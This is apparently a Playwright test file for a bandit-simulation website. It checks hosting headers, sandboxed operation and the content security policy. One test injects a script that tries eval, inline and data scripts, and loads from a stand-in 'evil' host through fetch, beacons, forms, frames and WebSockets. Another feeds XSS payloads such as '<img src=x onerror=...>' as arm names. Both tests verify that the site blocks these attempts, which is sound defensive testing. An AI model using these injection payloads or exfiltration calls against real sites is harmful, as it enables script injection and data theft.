// The built site on hosts that send every header and on hosts that send none, the unbundled site of the repository, and
// the content security policy.
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { extname, join, normalize } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { browser } from './browser.mjs';
import { serve, TYPES } from './elsewhere.mjs';
import { at_rest, bernoulli, ended, hash, PATIENCE, SMALL, site, url } from './site.mjs';
import { choose } from './tabs.mjs';

const dist = process.env.BB_DIST ?? '';
const www = fileURLToPath(new URL('../../www/', import.meta.url));
const [, documented] =
  /^Content-Security-Policy: (.*)$/m.exec(readFileSync(new URL('../../docs/hosting.md', import.meta.url), 'utf8')) ??
  [];

/**
 * Serves a folder.
 * @param {string} folder @param {boolean} types whether the host knows the media type of a wasm
 * @param {Record<string, string>} headers
 */
const host = (folder, types, headers) =>
  serve(async (path) => {
    const file = normalize(path).replace(/\/$/, '/index.html');
    return {
      type: types || !/wasm$/.test(file) ? (TYPES[extname(file)] ?? 'text/plain') : 'application/octet-stream',
      body: await readFile(join(folder, file)),
    };
  }, headers);

/** @type {Record<string, [string, boolean, Record<string, string>]>} */
const hosts = {
  'sends every header': [
    dist,
    true,
    {
      'content-security-policy': documented ?? '',
      'x-content-type-options': 'nosniff',
      'access-control-allow-origin': '*',
      'cross-origin-resource-policy': 'cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-embedder-policy': 'require-corp',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-cache',
    },
  ],
  'sends no headers and no media type for the wasm': [dist, false, {}],
};
// Without these files, the host would be the one that all other tests use.
if (existsSync(join(www, 'pkg'))) hosts['has the unbundled files of the repository'] = [www, true, {}];

for (const [name, [folder, types, headers]] of Object.entries(hosts)) {
  const origin = await host(folder, types, headers);
  site(
    `on a host that ${name}, runs, views, benchmark, frame and article work`,
    async (page) => {
      await page.goto(`${origin}/${hash(SMALL)}`);
      const { phase } = await ended(page);
      assert.equal(phase, 'done');
      for (const view of ['Intervals', 'Shapes', 'Coverage']) {
        await choose(page, view.toLowerCase());
        await page.locator(`#view-${view.toLowerCase()} canvas`).first().waitFor();
      }
      for (const [path, there] of /** @type {const} */ ([
        ['bench.html', '#times tbody tr'],
        ['embed.html#preset=two-arms&repetitions=5', '.say'],
        ['examples/blog-post.html', 'budgeted-bandit .say'],
      ])) {
        await page.waitForLoadState('networkidle');
        await page.goto(`${origin}/${path}`);
        if (path.startsWith('examples')) await page.locator('budgeted-bandit').first().scrollIntoViewIfNeeded();
        await page.locator(there).first().waitFor();
      }
      await page.waitForLoadState('networkidle');
    },
    { also: [origin] },
  );
}

// A sandboxed page has no origin of its own: the browser stores nothing for it, and some properties throw when read.
const sandbox = { 'content-security-policy': 'sandbox allow-scripts', 'access-control-allow-origin': '*' };
const sandboxed = await host(dist, true, sandbox);
site(
  'in a sandbox that allows only scripts, everything that needs no storage works without a notice',
  async (page) => {
    await page.goto(`${sandboxed}/${hash(SMALL)}`);
    await ended(page);
    assert.equal(await page.locator('.notice').count(), 0);
    for (const view of ['Intervals', 'Shapes', 'Coverage', 'Theory', 'Sweep', 'Regret']) {
      await choose(page, view.toLowerCase());
      await page.locator(`#view-${view.toLowerCase()}:visible`).waitFor();
    }
    await page.getByRole('button', { name: 'Theme: system; switch to light' }).click();
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'light');
    await page.getByLabel('Arm 1, reward: Bernoulli, p').fill('0.55');
    const before = page.url();
    await page.waitForFunction((before) => location.href !== before, before); // the address follows the change
    await page.waitForFunction(() => budgetedBandits.state.latest.specification.environment.arms[0].reward.p === 0.55);
    assert.equal((await ended(page)).answer.specification.environment.arms[0].reward.p, 0.55);
    await choose(page, 'intervals');
    await page.getByLabel('Its mean reward').fill('0.9'); // a sandbox submits no form, and the page relies on none
    await page.keyboard.press('Enter');
    await page.getByText('This is no longer the run of the experiment: 1 change of means').waitFor();
    assert.equal(await page.locator('.notice').count(), 0);
    const others = { 'bench.html': '#times tbody tr', 'embed.html#preset=two-arms&view=intervals': '[role=slider]' };
    for (const [path, there] of Object.entries(others)) {
      await page.waitForLoadState('networkidle');
      await page.goto(`${sandboxed}/${path}`);
      await page.locator(there).first().waitFor();
      assert.equal(await page.locator('.notice').count(), 0);
    }
    await page.waitForLoadState('networkidle');
  },
  { also: [sandboxed], serviceWorkers: 'allow' },
);

test('every page states the same content security policy before it loads anything', async () => {
  const own = documented?.replace('; frame-ancestors *', '');
  for (const name of ['index.html', 'bench.html', 'embed.html', 'examples/blog-post.html']) {
    const text = await readFile(join(dist, name), 'utf8');
    const [before, policy] = text.split(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
    assert.equal(policy, own, name);
    assert.ok(!/<(script|link|style)/.test(before), name);
    assert.ok(!/ on[a-z]+="| style="|<style|<script>|javascript:/.test(text), `${name} has something inline`);
  }
});

/** Attempts that would need a hole in the policy. They run as a script of the site, as if an attacker had placed it. */
const BREAK = `
const evil = 'http://127.0.0.1:9';
const put = (tag, attributes, text = '') => {
  const node = Object.assign(document.createElement(tag), { textContent: text });
  for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value);
  document.body.append(node);
  return node;
};
const trial = (act) => { try { return act(); } catch (error) { (globalThis.refused ??= []).push(error.name); } };
globalThis.violations = [];
document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
trial(() => eval('globalThis.broken = "eval"'));
trial(() => new Function('globalThis.broken = "Function"')());
trial(() => setTimeout('globalThis.broken = "setTimeout"'));
put('script', {}, 'globalThis.broken = "inline"');
put('script', { src: 'data:text/javascript,globalThis.broken = "data"' });
put('script', { src: URL.createObjectURL(new Blob(['globalThis.broken = "blob"'])) });
put('script', { src: evil + '/script.js' });
put('p', { onclick: 'globalThis.broken = "handler"' }).click();
put('a', { href: 'javascript:globalThis.broken = "link"' }).click();
put('style', {}, 'body { --broken: style }');
put('p', { style: 'color: red' });
put('link', { rel: 'stylesheet', href: evil + '/style.css' });
put('img', { src: evil + '/image.png' });
put('iframe', { src: evil + '/frame.html' });
put('object', { data: evil + '/object' });
put('video', { src: evil + '/video' });
put('base', { href: evil });
put('form', { action: evil + '/form', method: 'post' }).requestSubmit();
fetch(evil + '/fetch').catch(() => {});
navigator.sendBeacon(evil + '/beacon');
trial(() => new WebSocket(evil.replace('http', 'ws')));
trial(() => new EventSource(evil + '/events'));
// These are refused before the policy is consulted.
trial(() => new Worker(evil + '/worker.js'));
import(evil + '/module.js').catch(() => {});
`;

/** The directives that the attempts violate. */
const REFUSED = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'media-src',
  'object-src',
  'script-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];

test('the policy refuses every attempt to load from elsewhere or to run a text', {
  timeout: 5 * PATIENCE,
}, async () => {
  const context = await (await browser()).newContext({ serviceWorkers: 'block' });
  context.setDefaultTimeout(PATIENCE);
  /** @type {string[]} */
  const asked = [];
  context.on('request', (request) => asked.push(request.url()));
  try {
    const page = await context.newPage();
    await page.route(`${url}break.js`, (route) => route.fulfill({ contentType: 'text/javascript', body: BREAK }));
    for (const name of ['', 'bench.html', 'embed.html#preset=two-arms', 'examples/blog-post.html']) {
      await page.goto(url + name);
      await page.evaluate((src) => {
        document.head.append(Object.assign(document.createElement('script'), { src }));
      }, `${url}break.js`);
      // Reports arrive one by one, long after the attempts where the machine is busy.
      await page.waitForFunction((count) => new Set(globalThis.violations).size >= count, REFUSED.length);
      const { broken, violations, style, base } = await page.evaluate(() => ({
        broken: globalThis.broken,
        violations: [...new Set(globalThis.violations)].sort(),
        style: getComputedStyle(document.body).getPropertyValue('--broken'),
        base: document.baseURI,
      }));
      assert.equal(broken, undefined, `${name}: ${broken}`);
      assert.equal(style, '');
      assert.ok(base.startsWith(url), base);
      assert.deepEqual(violations, REFUSED, name);
    }
    const origin = new URL(url).origin;
    assert.deepEqual(
      asked.filter(
        (address) =>
          !/^(blob|data):/.test(address) &&
          new URL(address).origin !== origin &&
          !address.startsWith('http://127.0.0.1:9/'),
      ),
      [],
    );
  } finally {
    await context.close();
  }
});

site('markup in a link stays text', async (page) => {
  const name = '<img src=x onerror="globalThis.broken=1"><script>globalThis.broken=2</script>\u202e';
  const specification = {
    version: 1,
    environment: {
      arms: [
        { ...bernoulli(0.6, 0.5), name },
        { ...bernoulli(0.4, 0.2), name: '"><svg onload=globalThis.broken=3>' },
      ],
    },
    budget: { absolute: 300 },
    policies: [{ id: 'omega-ucb', rho: 0.25 }],
    repetitions: 5,
    seed: 3,
  };
  await page.goto(url + hash(specification));
  await ended(page);
  for (const view of ['Intervals', 'Regret']) {
    await choose(page, view.toLowerCase());
    await at_rest(page, view.toLowerCase());
    assert.equal(
      await page.evaluate(() => globalThis.broken ?? document.querySelectorAll('main img, #panel img').length),
      0,
    );
  }
});
